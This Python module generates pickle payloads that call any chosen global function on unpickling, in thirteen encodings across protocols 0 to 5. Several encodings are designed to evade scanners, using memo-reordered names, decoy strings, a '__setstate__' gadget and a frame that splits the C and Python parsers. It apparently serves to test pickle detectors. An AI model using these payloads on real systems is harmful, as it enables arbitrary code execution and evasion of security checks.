"""Pickles written opcode by opcode: one call of a global, in every spelling that an unpickler understands.

Source: `pickletools` of the standard library, whose names of opcodes are used here.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

Arguments = tuple[str | bytes | int, ...]
Encoding = Callable[[str, str, Arguments], bytes]

MARK, STOP, REDUCE, TUPLE, BUILD, OBJ = b"(", b".", b"R", b"t", b"b", b"o"
NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, MEMOIZE = b"\x81", b"\x92", b"\x93", b"\x94"
EMPTY_DICT, EMPTY_TUPLE, NONE, POP, DUP = b"}", b")", b"N", b"0", b"2"


def proto(version: int) -> bytes:
    """PROTO."""
    return bytes((0x80, version))


def frame(body: bytes, length: int | None = None) -> bytes:
    """FRAME, which says `length` bytes, or the truth."""
    return b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


def short(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = text.encode()
    return b"\x8c" + bytes((len(data),)) + data


def line_global(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def line(value: str | bytes | int) -> bytes:
    """An argument as a line of text: STRING, UNICODE or INT."""
    if isinstance(value, int):
        return f"I{value}\n".encode()
    if isinstance(value, bytes):
        return f"c_codecs\nencode\n(V{value.decode('latin-1')}\nVlatin1\ntR".encode()
    return f"V{value}\n".encode()


def binary(value: str | bytes | int) -> bytes:
    """An argument as BINUNICODE, BINBYTES or BININT."""
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _lines(arguments: Arguments) -> bytes:
    return MARK + b"".join(map(line, arguments)) + TUPLE


def _binaries(arguments: Arguments) -> bytes:
    return MARK + b"".join(map(binary, arguments)) + TUPLE


def text(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 0: GLOBAL and REDUCE, all of it text."""
    return line_global(module, name) + _lines(arguments) + REDUCE + STOP


def text_memo(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 0 as `pickle` writes it: each thing is put into the memo."""
    return line_global(module, name) + b"p0\n" + _lines(arguments) + b"p1\n" + REDUCE + b"p2\n" + STOP


def inst(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 0: INST, one opcode that names and calls."""
    return MARK + b"".join(map(line, arguments)) + f"i{module}\n{name}\n".encode() + STOP


def obj(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 1: OBJ calls what lies first after the mark."""
    return MARK + line_global(module, name) + b"".join(map(binary, arguments)) + OBJ + STOP


def second(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 2 as `pickle` writes it."""
    return proto(2) + line_global(module, name) + b"q\x00" + _binaries(arguments) + b"q\x01" + REDUCE + b"q\x02" + STOP


def headless(module: str, name: str, arguments: Arguments) -> bytes:
    """Binary opcodes without PROTO: no magic at the start."""
    return line_global(module, name) + _binaries(arguments) + REDUCE + STOP


def third(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 3 with NEWOBJ in place of REDUCE."""
    return proto(3) + line_global(module, name) + _binaries(arguments) + NEWOBJ + STOP


def fourth(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 4: one frame, STACK_GLOBAL."""
    return proto(4) + frame(short(module) + short(name) + STACK_GLOBAL + _binaries(arguments) + REDUCE + STOP)


def from_memo(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 4: STACK_GLOBAL takes its names out of the memo, in another order than they were written."""
    words = short(name) + MEMOIZE + POP + short("harmless") + MEMOIZE + POP + short(module) + MEMOIZE + POP
    return proto(4) + frame(words + b"h\x02h\x00" + STACK_GLOBAL + _binaries(arguments) + REDUCE + STOP)


def extended(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 4: NEWOBJ_EX with empty keywords, and a dotted name through `builtins.getattr`."""
    got = proto(4) + short("builtins") + short("getattr") + STACK_GLOBAL
    what = short(module) + short(name) + STACK_GLOBAL + short("__call__") + b"\x86" + REDUCE
    return got + what + _binaries(arguments) + EMPTY_DICT + NEWOBJ_EX + STOP


def build(module: str, name: str, arguments: Arguments) -> bytes:
    """BUILD calls `__setstate__`, which an earlier BUILD set to the gadget. No REDUCE of the gadget anywhere."""
    made = line_global("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE
    state = EMPTY_DICT + binary("__setstate__") + line_global(module, name) + b"s"
    return proto(2) + made + state + BUILD + binary(arguments[0] if arguments else "") + BUILD + STOP


def straddling(module: str, name: str, arguments: Arguments) -> bytes:
    """A frame that ends within an opcode: the unpicklers in C and in Python read different things."""
    body = short(module) + short(name) + STACK_GLOBAL + _binaries(arguments) + REDUCE + STOP
    return proto(4) + frame(body, len(module) + 1)


def fifth(module: str, name: str, arguments: Arguments) -> bytes:
    """Protocol 5 without a frame, the call hidden beneath a harmless value."""
    call = short(module) + short(name) + STACK_GLOBAL + _binaries(arguments) + REDUCE
    return proto(5) + short("just a text") + call + POP + STOP


ENCODINGS: tuple[Encoding, ...] = (
    text,
    text_memo,
    inst,
    obj,
    second,
    headless,
    third,
    fourth,
    from_memo,
    extended,
    build,
    straddling,
    fifth,
)
